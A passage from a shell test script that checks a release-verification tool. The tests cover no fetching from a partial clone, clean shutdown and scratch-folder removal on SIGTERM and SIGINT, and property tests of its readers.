cannot "this checkout is a partial clone"
[ ! -e "$keys/fetched" ] ||
    fail "verify-release.sh made git fetch from the remote of a partial clone"
echo "the remote's upload-pack never ran"

step "verify-release.sh: SIGTERM and SIGINT during the build end it, all it started and its scratch folder"
# build_processes FOLDER prints the processes whose working folder lies in FOLDER.
build_processes() {
    for proc in /proc/[0-9]*; do
        case $(readlink "$proc/cwd" 2>/dev/null) in "$1"/*) printf ' %s' "${proc#/proc/}" ;; esac
    done
}
for signal in TERM INT; do
    [ -z "$(find . -maxdepth 1 -name 'build-verify-*' -print)" ] ||
        fail "a scratch folder of an earlier check is left"
    # A shell's background job ignores SIGINT, and the check leaves an ignored signal ignored;
    # a terminal's Ctrl-C is what is sent here, so the job gets SIGINT back.
    "$python" -c 'import os, signal, sys
signal.signal(signal.SIGINT, signal.SIG_DFL)
os.execv(sys.argv[1], sys.argv[1:])' ./release/verify-release.sh "$zip" \
        > "$keys/out" 2> "$keys/err" < /dev/null &
    checking=$!
    waited=0
    while set -- build-verify-*/build.log && [ ! -s "$1" ]; do
        kill -0 "$checking" 2>/dev/null || fail "verify-release.sh ended before its build"
        [ "$waited" -lt 3000 ] || fail "the build did not start within 300 s"
        sleep 0.1
        waited=$((waited + 1))
    done
    scratch=$work/$(dirname "$1")
    kill -"$signal" "$checking"
    status=0
    wait "$checking" || status=$?
    if [ "$status" -ne 2 ] || [ "$(wc -l < "$keys/err")" -ne 1 ] ||
        ! grep -q "^verify-release: cannot check: stopped by signal SIG$signal" "$keys/err"; then
        cat "$keys/err" >&2
        fail "verify-release.sh ended with $status on SIG$signal, not 2 with one line"
    fi
    cat "$keys/err"
    [ ! -e "$scratch" ] || fail "verify-release.sh left $scratch behind on SIG$signal"
    waited=0
    while [ -n "$(build_processes "$scratch")" ]; do
        [ "$waited" -lt 100 ] ||
            fail "SIG$signal left the build's processes$(build_processes "$scratch")"
        sleep 0.1
        waited=$((waited + 1))
    done
done

step "Property tests of the check's readers, from the signed release's own bytes"
"$python" -B release/fuzz_readers.py "$zip" "$keys/stamped.zip" "$keys/expired.zip"

step "The signed release is in $work/dist"
ls -l dist
